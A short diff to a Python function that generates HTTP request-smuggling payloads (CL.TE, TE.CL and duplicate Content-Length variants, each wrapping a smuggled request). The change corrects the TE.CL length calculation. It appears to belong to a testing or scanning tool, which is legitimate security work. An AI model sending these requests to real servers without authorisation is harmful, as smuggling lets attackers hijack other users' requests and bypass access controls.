@@ -17,7 +17,8 @@ def ambiguous_requests(host: str, smuggled: bytes) -> Iterator[tuple[str, bytes]
     """A name for each, and the request with the smuggled one in its body."""
     ended, chunked = b"0\r\n\r\n" + smuggled, b"%x\r\n%b\r\n0\r\n\r\n" % (len(smuggled), smuggled)
     both = f"Content-Length: {len(ended)}\r\n"
-    short = "Content-Length: 4\r\n"
+    first_line = b"%x\r\n" % len(smuggled)  # of the chunk
+    short = f"Content-Length: {len(first_line)}\r\n"
     yield "CL.TE", _post(host, both + "Transfer-Encoding: chunked\r\n", ended)
     yield "TE.CL", _post(host, short + "Transfer-Encoding: chunked\r\n", chunked)
     yield "two lengths", _post(host, f"Content-Length: 0\r\nContent-Length: {len(smuggled)}\r\n", smuggled)
